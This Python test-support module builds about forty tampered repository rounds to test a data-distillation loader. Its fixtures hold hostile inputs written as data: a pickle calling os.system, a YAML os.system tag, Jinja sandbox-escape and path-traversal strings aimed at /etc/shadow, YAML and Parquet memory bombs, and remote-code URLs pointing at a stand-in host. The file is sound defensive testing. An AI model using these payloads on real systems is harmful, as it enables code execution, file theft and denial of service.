"""Forty repositories of strangers: published rounds in which somebody changed what this machine reads.

STRANGERS["curious template"]      changes the folder of a revision and the manifest of its last round
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq

from evokd_data.yaml_files import dump_yaml, load_yaml
from tests.support.published_runs import entry

Change = Callable[[Path, dict[str, Any]], None]
ROUND = "round-001"
OUTSIDE = "http://192.0.2.1:9/v1"
"""A network of documentation: nothing answers there."""
LURE = "/etc/shadow"
"""A file that a stranger would like to have opened."""


def file(path: str, content: str | bytes) -> Change:
    """Another content of a file of the revision, or one more file."""

    def change(folder: Path, manifest: dict[str, Any]) -> None:
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_bytes(content.encode() if isinstance(content, str) else content)
        manifest["files"][path] = {**manifest["files"].get(path, {}), **entry(folder / path)}

    return change


def recipe_of(**sections: Any) -> Change:
    """A recipe with other sections."""

    def change(folder: Path, manifest: dict[str, Any]) -> None:
        table = {**load_yaml((folder / "recipe.yaml").read_text(encoding="utf-8")), **sections}
        file("recipe.yaml", dump_yaml(table))(folder, manifest)

    return change


def recipe_line(line: str) -> Change:
    """A recipe with one more line, which no writer of YAML would write."""

    def change(folder: Path, manifest: dict[str, Any]) -> None:
        text = (folder / "recipe.yaml").read_text(encoding="utf-8")
        file("recipe.yaml", f"{text}\n{line}\n")(folder, manifest)

    return change


def template(body: str) -> Change:
    return file("prompts/generate.j2", f"{{% block user %}}{body}{{% endblock %}}")


def manifest_of(change_manifest: Callable[[dict[str, Any]], Any]) -> Change:
    def change(_: Path, manifest: dict[str, Any]) -> None:
        change_manifest(manifest)

    return change


def listed_file(path: str) -> Change:
    """A manifest that lists a file which no revision can hold."""
    return manifest_of(lambda manifest: manifest["files"].update({path: {"sha256": "0" * 64, "size": 1, "rows": 1}}))


def parquet_of(kind: str, make: Callable[[bytes], bytes]) -> Change:
    """Another Parquet file of the round, made of the bytes of the true one."""

    def change(folder: Path, manifest: dict[str, Any]) -> None:
        (path,) = [path for path in manifest["files"] if path.startswith(f"{kind}/{ROUND}/")]
        file(path, make((folder / path).read_bytes()))(folder, manifest)

    return change


def table_of(kind: str, make: Callable[[pa.Table], pa.Table]) -> Change:
    """Another table in a Parquet file of the round."""

    def rewrite(data: bytes) -> bytes:
        sink = pa.BufferOutputStream()
        pq.write_table(make(pq.read_table(pa.BufferReader(data))), sink, compression="zstd")
        return sink.getvalue().to_pybytes()

    return parquet_of(kind, rewrite)


def with_metadata(metadata: dict[str, str], field: bool = False) -> Change:
    """A table whose schema says more than its columns; readers of some formats act on it."""

    def make(table: pa.Table) -> pa.Table:
        if field:
            index = table.schema.get_field_index("text")
            return table.cast(table.schema.set(index, table.schema.field(index).with_metadata(metadata)))
        return table.replace_schema_metadata({**(table.schema.metadata or {}), **metadata})

    return table_of("data", make)


def journal_of(change_row: Callable[[dict[str, Any]], None]) -> Change:
    def make(table: pa.Table) -> pa.Table:
        rows = table.to_pylist()
        for row in rows:
            change_row(row)
        return pa.Table.from_pylist(rows, table.schema)

    return table_of("journal", make)


def bomb(table: pa.Table) -> pa.Table:
    """A table of a few kilobytes on the disk and of gigabytes in memory."""
    text = pa.DictionaryArray.from_arrays(pa.array([0] * 8000, pa.int32()), pa.array(["a" * 2**20]))
    return pa.table({"text": text})


ALIASES = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{after}: &{after} [{', '.join([f'*{before}'] * 9)}]\n"
    for before, after in zip("abcdefgh", "bcdefghi", strict=True)
)
PICKLE = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R."
HTTP_CARD = f"---\nconfigs:\n- config_name: default\n  data_files: {OUTSIDE}/x.parquet\n---\n"
SCRIPT = "import os; os.system('id')\n"
SERVER = {"engine": "server", "model": "m", "urls": [OUTSIDE]}

STRANGERS: dict[str, Change] = {
    # recipe fields
    "server": recipe_of(teacher={**SERVER, "api_key_env": "HF_TOKEN"}),
    "extra body": recipe_of(teacher={**SERVER, "extra_body": {"tools": ["browser"]}}),
    "engine arguments": recipe_of(teacher={"model": "org/m", "engine_args": {"worker_extension_cls": "evilmodule.Ext"}}),
    "cluster": recipe_of(teacher={"engine": "ray", "model": "org/m", "address": "192.0.2.1:6379", "parts": "s3://evil"}),
    "environment of a cluster": recipe_of(
        teacher={"engine": "ray", "model": "org/m", "runtime_env": {"working_dir": f"{OUTSIDE}/x.zip"}}
    ),
    "model folder": recipe_of(teacher={"model": "/etc"}),
    "model address": recipe_of(teacher={"model": f"{OUTSIDE}/m"}),
    "model package": recipe_of(teacher={"model": "package:evilmodule"}),
    "student folder": recipe_of(student={"kind": "transformer", "model": "/etc"}),
    "student code": recipe_of(student={"kind": "transformer", "model": "org/m", "trust_remote_code": True}),
    "file of the strategy": recipe_of(strategy={"name": "eda", "synonyms": LURE}),
    "data elsewhere": recipe_of(seeds={"path": LURE}, test={"path": LURE}, dev={"path": LURE}),
    "pool elsewhere": recipe_of(pool={"path": LURE}),
    "prompts elsewhere": recipe_of(prompts="/etc"),
    "hub elsewhere": recipe_of(publish={"repo": "a/b", "endpoint": OUTSIDE, "hub_root": "/etc"}),
    "name that is a path": recipe_of(name="../../evil"),
    "huge rounds": recipe_of(rounds={"count": 10**9, "samples": 10**15, "shard_size": 1}),
    "long integer": recipe_line(f"seed: {'9' * 6000}"),
    "object tag": recipe_line("name: !!python/object/apply:os.system [id]"),
    "alias bomb": file("recipe.yaml", ALIASES),
    "deep recipe": file("recipe.yaml", "x: " + "[" * 5000),
    # templates
    "endless template": template("{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}x"),
    "curious template": template("{% include '../../recipe.yaml' %}{% include '" + LURE + "' %}"),
    "importing template": template("{% import '" + LURE + "' as x %}{{ x }}"),
    "template of classes": template("{{ ''.__class__.__mro__[1].__subclasses__() }}{{ task.__init__.__globals__ }}"),
    "huge text": template("{{ 'x' * 10 ** 10 }}"),
    # plans and manifests
    "deep plan": file(f"rounds/{ROUND}/plan.json", "[" * 100_000),
    "other metrics": file(f"rounds/{ROUND}/metrics.json", '{"test": ["\\u001b]0;owned\\u0007"], "round": "x"}'),
    "negative rows": manifest_of(lambda manifest: manifest["shards"][0].update(rows=-5)),
    "too many rows": manifest_of(lambda manifest: manifest["identity"].update(rows=10**30)),
    "rows that are no number": manifest_of(lambda manifest: manifest["shards"][0].update(rows="all")),
    "file outside": listed_file(f"data/{ROUND}/../../../../../../../../..{LURE}"),
    "absolute file": listed_file(LURE),
    # Parquet
    "junk Parquet": parquet_of("data", lambda data: b"PAR1" + b"\xff" * 400 + b"PAR1"),
    "torn Parquet": parquet_of("data", lambda data: data[: len(data) // 2]),
    "Parquet bomb": table_of("data", bomb),
    "pickled type": with_metadata(
        {"ARROW:extension:name": "arrow.py_extension_type", "ARROW:extension:metadata": PICKLE.decode("latin-1")}, field=True
    ),
    "features of the library": with_metadata({"huggingface": json.dumps({"info": {"features": {"text": {"_type": "Image"}}}})}),
    # journals
    "hostile journal": journal_of(lambda row: row.update(text="[" * 50_000, finish_reason="\x1b[2J")),
    "numbers in a journal": journal_of(lambda row: row.update(prompt_tokens=-(2**31), completion_tokens=2**31 - 1)),
    # names
    "script beside the data": file("colours.py", SCRIPT),
    "pickle beside the data": file("data/state.pkl", PICKLE),
    "card that names files": file("README.md", HTTP_CARD),
}  # fmt: skip
